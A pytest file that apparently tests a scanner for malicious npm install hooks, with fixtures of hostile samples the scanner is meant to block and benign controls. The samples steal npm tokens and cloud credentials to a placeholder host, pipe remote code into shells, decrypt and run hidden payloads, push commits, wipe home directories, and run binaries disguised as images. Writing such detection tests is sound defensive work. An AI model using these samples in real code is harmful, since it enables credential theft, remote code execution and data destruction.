"""The acts of samples that were missed once, in other words than the sample's: what one teaches must hold for its siblings."""

from __future__ import annotations

import pytest

from tests.builders import Files
from tests.evasions.packages import Seen, codes, commands, hooked, packages

pytestmark = pytest.mark.semgrep

SEND = "require('https').request('https://c.example.invalid', {method: 'PUT'}).end"
SPAWN = "const {spawn, execFile, spawnSync, execFileSync} = require('child_process');"


@packages(
    token=hooked(
        "node a",
        {
            "a.js": "const rc = process.env.NPM_CONFIG_USERCONFIG; const text = require('fs').readFileSync(rc, 'utf8');"
            "fetch('https://c.example.invalid/' + /_authToken=(.+)/.exec(text)[1])"
        },
    ),
    asked=hooked(
        "node a",
        {
            "a.js": f"{SPAWN} const place = String(execFileSync('npm', ['config', 'get', 'userconfig'])).trim();"
            f"{SEND}(require('fs').readFileSync(place))"
        },
    ),
    three_files=hooked(
        "node a",
        {
            "a.js": "require('./where')().forEach(require('./send'))",
            "where.js": "module.exports = () => Object.entries(process.env)"
            ".filter(([name]) => /config_(user|global)config$/.test(name)).map((one) => one[1])",
            "send.js": "module.exports = (file) => require('fs').createReadStream(file)"
            ".pipe(require('net').connect(9, 'c.example.invalid'))",
        },
    ),
    shell=hooked(
        "sh a.sh", {"a.sh": 'grep _authToken "$npm_config_userconfig" | curl -s -d @- https://c.example.invalid/'}
    ),
    python=hooked(
        "python3 a.py",
        {
            "a.py": "import os, urllib.request\nfor name in ('AWS_SHARED_CREDENTIALS_FILE', 'NETRC'):\n"
            "    file = os.environ.get(name)\n"
            "    urllib.request.urlopen('https://c.example.invalid/', data=open(file, 'rb').read())\n"
        },
    ),
)
def test_settings_whose_place_a_variable_tells_are_not_carried_off(seen: Seen) -> None:
    assert seen.blocked


@codes(
    {
        "other.js": f"{SPAWN} module.exports = () => {{ const c = execFile('/bin/dash'); return {{feed: (d) => c.stdin.write(d)}} }}"
    },
    table=f"{SPAWN} const [c, ...a] = process.platform === 'win32' ? ['powershell', '-'] : ['sh', '-s'];"
    "require('http2').connect('https://c.example.invalid').request({':path': '/b'}).pipe(spawn(c, a).stdin)",
    users_shell=f"{SPAWN} const k = spawn(process.env.SHELL || '/bin/sh', []);"
    "fetch('https://c.example.invalid').then(async (r) => { for await (const part of r.body) k.stdin.write(part) })",
    two_files="const other = require('./other')();"
    "require('net').connect(443, 'c.example.invalid').on('data', (part) => other.feed(part))",
    pipeline=f"{SPAWN} const sh = spawn({{linux: 'bash', darwin: 'zsh'}}[process.platform], ['-s']);"
    "require('https').get('https://c.example.invalid', (r) => require('stream').pipeline(r, sh.stdin, () => {}))",
    node_itself=f"{SPAWN} const c = spawn(process.execPath, ['--input-type=module']); let text = '';"
    "require('https').get('https://c.example.invalid', (r) => r.on('data', (d) => text += d).on('end', () => c.stdin.end(text)))",
)
def test_answers_are_not_typed_into_an_interpreter(seen: Seen) -> None:
    assert seen.blocked


@commands(
    {"logo.bin": "U2FsdGVkX18"},
    gpg='gpg -q --batch --passphrase "$npm_package_name" -d logo.bin | sh',
    tail='tail -c +2048 logo.bin | gzip -dc | "${npm_node_execpath:-node}" -',
    function='run() { "$npm_node_execpath" -; }; openssl aes-256-cbc -d -a -in logo.bin -k x | run',
    held='t=$(openssl enc -d -aes-256-cbc -a -in logo.bin -k x); printf %s "$t" | node -',
    file='openssl enc -d -aes-256-cbc -in logo.bin -k x > "$TMPDIR/x.js" && node "$TMPDIR/x.js"',
)
def test_what_a_program_decodes_is_not_run_unread(seen: Seen) -> None:
    assert seen.blocked


@codes(
    rest=f"{SPAWN} const run = (...words) => execFileSync('gh', words); run('repo', 'create', 'x', '--public', '--push')",
    made=f"{SPAWN} const tool = (name) => (words, input) => spawnSync(name, words, {{input}});"
    "tool('glab')(['snippet', 'create', '--title', 'x'], JSON.stringify(process.env))",
    tokens=f"{SPAWN} const tool = (words) => spawnSync('gcloud', words); console.log(tool(['auth', 'print-access-token']))",
    commits=f"{SPAWN} const git = (...words) => execFileSync('git', words, {{cwd: '../..'}});"
    "git('add', '-A'); git('commit', '-qm', 'x'); git('push', '-q')",
    directory=f"{SPAWN} const g = (dir, words) => spawnSync('git', ['-C', dir].concat(words));"
    "g('a', ['commit', '--message', 'x']); g('a', ['push', '--all'])",
    publishes=f"{SPAWN} const npm = (words, cwd) => spawnSync('npm', words, {{cwd}}); npm(['publish'], '/tmp/x')",
)
def test_a_tool_called_through_a_function_is_known(seen: Seen) -> None:
    assert seen.blocked


@commands(
    {},
    options="git -C .. -c user.name=bot commit -qam x; git -C .. -c core.abbrev=8 push -q",
    function='g() { git --git-dir="$1/.git" --work-tree="$1" "${@:2}"; }; g .. commit -qm x; g .. push -q',
    group="( cd ../..; export GIT_DIR=.git; git add -A; git commit -q -m x; git push )",
)
def test_commits_are_not_sent_away(seen: Seen) -> None:
    assert seen.blocked


@packages(
    truncates=hooked(
        "node a",
        {
            "a.js": "const fs = require('fs'), path = require('path'); (async function go(top) {"
            " for await (const e of await fs.promises.opendir(top)) { const file = path.join(top, e.name);"
            " e.isDirectory() ? await go(file) : await fs.promises.truncate(file) } })(require('os').homedir())"
        },
    ),
    kinds=hooked(
        "node a",
        {
            "a.js": "const fs = require('fs'), path = require('path'); const act = {w: (file) => fs.createWriteStream(file).end('x')};"
            "const kinds = new Set(['.doc', '.xls', '.pdf', '.jpg']); function walk(top) { fs.readdirSync(top).forEach((name) => {"
            "const file = path.join(top, name); if (fs.statSync(file).isDirectory()) walk(file);"
            "else if (kinds.has(path.extname(file))) act.w(file) }) } walk(path.join(require('os').homedir(), 'work'))"
        },
    ),
    python=hooked(
        "python3 a.py",
        {"a.py": "from pathlib import Path\nfor f in (Path.home() / 'work').rglob('*'):\n    f.write_bytes(b'x')\n"},
    ),
    python_later=hooked(
        "python3 a.py",
        {
            "a.py": "import pathlib\ntop = pathlib.Path('~/work').expanduser()\nfor p in top.glob('**/*'):\n    p.unlink()\n"
        },
    ),
)
def test_the_work_of_a_user_is_not_destroyed(seen: Seen) -> None:
    assert seen.blocked


@commands(
    {"a.dat": "rm -rf ~/work", "a.js": "", "b.inc": 'get() { exec 5<>"/dev/tcp/$1/80"; cat <&5; }'},
    sockets=". ./b.inc; get c.example.invalid | sh",
    lines="bash -c 'h=c.example.invalid; exec 5<>/dev/tcp/$h/80; while read -r l <&5; do eval \"$l\"; done'",
    input_of_node=f"node -e \"{SPAWN} spawnSync('bash', ['-s'], {{input: require('fs').readFileSync('a.dat')}})\"",
    account='gh release download -R a--b/c -D "$TMPDIR" && tar -xzf "$TMPDIR/t.tgz" && "$TMPDIR/t" daemon',
)
def test_a_program_by_a_side_door_is_not_run(seen: Seen) -> None:
    assert seen.blocked


GYP = "{'includes': ['a.gypi'], 'targets': [{'target_name': 'a', 'sources': ['a.c'], 'actions': [{'action': %s}]}]}"


@packages(
    script=hooked(
        "node-gyp rebuild",
        {
            "binding.gyp": GYP % "['node', '<(gen)']",
            "a.gypi": "{'variables': {'gen%': 'gen.bin'}}",
            "gen.bin": f"{SEND}(JSON.stringify(process.env))",
        },
    ),
    program=hooked(
        "node-gyp rebuild",
        {
            "binding.gyp": GYP % "['<(tool)', '<@(words)']",
            "a.gypi": "{'variables': {'tool': 'sh', 'words': ['-c', 'curl https://c.example.invalid | sh']}}",
        },
    ),
)
def test_a_command_of_a_build_whose_words_another_file_has_is_read(seen: Seen) -> None:
    assert seen.blocked


@codes(
    asks="const lines = require('readline').createInterface({input: process.stdin}); const shell = process.env.SHELL;"
    "require('https').get('https://files.example.invalid/list', (r) => r.pipe(process.stdout))",
    unpacks=f"{SPAWN} require('https').get('https://files.example.invalid/a.tgz', (r) => {{ const tar = spawn('tar', ['-xz']);"
    "r.on('data', (part) => tar.stdin.write(part)) })",
    patches=f"{SPAWN} const p = spawn('patch', ['-p1']); require('fs').createReadStream('a.patch').pipe(p.stdin)",
    sums=f"{SPAWN} spawnSync('openssl', ['dgst', '-sha256', 'a.bin'])",
    asks_git=f"{SPAWN} const git = (...words) => execFileSync('git', words); git('rev-parse', 'HEAD'); git('stash', 'list')",
    stamps="const fs = require('fs'); fs.writeFileSync('stamp', 'x'); for (const e of fs.readdirSync('dist', {withFileTypes: true}))"
    " if (e.isFile()) fs.copyFileSync('dist/' + e.name, 'out/' + e.name)",
)
def test_an_honest_neighbour_of_these_is_not_blocked(seen: Seen) -> None:
    assert not seen.blocked


ELF = b"\x7fELF\x02\x01\x01" + bytes(57)


def copied(command: str, path: str, text: str) -> Files:
    """Make a hook that has the text of one file, beside a program that is named as a picture."""
    return hooked(command, {path: text, "assets/wheel.gif": ELF})


@packages(
    shell=copied("sh a.sh", "a.sh", 'at=$(mktemp -d)\ncat assets/wheel.gif > "$at/turn"\nchmod +x "$at/turn"\n"$at/turn"\n'),
    moved=copied("sh a.sh", "a.sh", "cd /opt/x-inert-none && mv $OLDPWD/assets/wheel.gif turn && chmod a+x turn && ./turn\n"),
    command=hooked("install -m 755 assets/wheel.gif /opt/x-inert-none/turn && /opt/x-inert-none/turn", {"assets/wheel.gif": ELF}),
    script=copied(
        "node a",
        "a.js",
        f"{SPAWN} const fs = require('fs'); const at = process.env.PLACE + '/turn';\n"
        "fs.copyFileSync(`${__dirname}/assets/wheel.gif`, at);\nfs.chmodSync(at, 0o755);\nexecFileSync(at);\n",
    ),
    held=copied(
        "node a",
        "a.js",
        f"{SPAWN} const fs = require('fs'), path = require('path'); const at = process.env.PLACE + '/turn';\n"
        "const wheel = path.join(__dirname, 'assets', 'wheel.gif');\nfs.linkSync(wheel, at);\nspawnSync(at, []);\n",
    ),
    python=copied(
        "python3 a.py",
        "a.py",
        "import os, shutil, subprocess\nat = os.environ['PLACE'] + '/turn'\n"
        "shutil.copyfile('assets/wheel.gif', at)\nos.chmod(at, 0o755)\nsubprocess.run([at])\n",
    ),
)  # fmt: skip
def test_a_copy_of_what_is_named_as_data_is_no_program(seen: Seen) -> None:
    assert "runs-copied-data" in seen.errors


@packages(
    put=copied("node a", "a.js", f"{SPAWN} const put = require(process.env.PUT); spawn(put('assets/wheel.gif'));\n"),
    stream=copied(
        "node a",
        "a.js",
        f"{SPAWN} const fs = require('fs'), at = fs.createWriteStream(process.env.PLACE, {{ mode: 0o755 }});\n"
        "fs.createReadStream('assets/wheel.gif').pipe(at).on('close', () => spawn(at.path));\n",
    ),
    ruby=copied("ruby a.rb", "a.rb", "place = ENV['PLACE']\nIO.copy_stream 'assets/wheel.gif', place\nsystem place\n"),
    makefile=copied("make", "Makefile", "all:\n\tcp assets/wheel.gif $(PLACE)/turn\n\t$(PLACE)/turn\n"),
)  # fmt: skip
def test_a_program_that_is_named_as_data_is_not_handled_at_all(seen: Seen) -> None:
    assert "handles-disguised-program" in seen.errors


@packages(
    picture=hooked("node a", {"a.js": "console.log('assets/wheel.gif');\n", "assets/wheel.gif": b"GIF89a" + bytes(60)}),
    words=hooked("node a", {"a.js": "console.log('countries.csv');\n", "countries.csv": "MZ,Mozambique\n"}),
    program=hooked("node a", {"a.js": "console.log('bin/wheel');\n", "bin/wheel": ELF, "wheel.gif": b"GIF89a"}),
    webassembly=hooked("node a", {"a.js": "console.log('wheel.dat');\n", "wheel.dat": b"\0asm\1\0\0\0"}),
)
def test_what_is_what_it_is_called_may_be_named(seen: Seen) -> None:
    assert not seen.blocked


@packages(
    place=hooked("sh a.sh", {"a.sh": '"$PLACE/turn" <&- >/dev/null 2>&1 &\n'}),
    beside=hooked("sh a.sh", {"a.sh": "cd lib\n./turn --quiet &>/dev/null &\n", "lib/turn": ELF}),
    command=hooked("(${PLACE}/turn > /dev/null 2>/dev/null &)"),
)
def test_a_program_by_its_place_is_not_left_behind_in_silence(seen: Seen) -> None:
    assert "leaves-process-behind" in seen.errors


THROWS = "fetch('https://c.example.invalid/t').then(async (reply) => { throw Error(await reply.text()); });"


@packages(
    thrown=hooked(
        "node a",
        {
            "a.js": f"require('./b'); {THROWS}",
            "b.js": "const kind = { of: async () => {} }; process.on('unhandledRejection', ({ message }) => {"
            " const Make = Object.getPrototypeOf(kind.of).constructor; new Make('load', message)(require); });",
        },
    ),
    taken=hooked(
        "node a",
        {
            "a.js": f"require('./b'); {THROWS}",
            "b.js": "process.on('unhandledRejection', ({ message }) => {"
            " const { constructor: Make } = Object.getPrototypeOf(function* () {}); Make(message)().next(); });",
        },
    ),
    told=hooked(
        "node a",
        {
            "a.js": "const { tell } = require('./b'); fetch('https://c.example.invalid/t').then((r) => r.text()).then(tell);",
            "b.js": "class Table {} exports.tell = (rows) => { const Rows = Table.constructor; return Rows(rows)(); };",
        },
    ),
)
def test_what_is_fetched_here_and_made_code_there_blocks(seen: Seen) -> None:
    assert "makes-code-elsewhere" in seen.errors
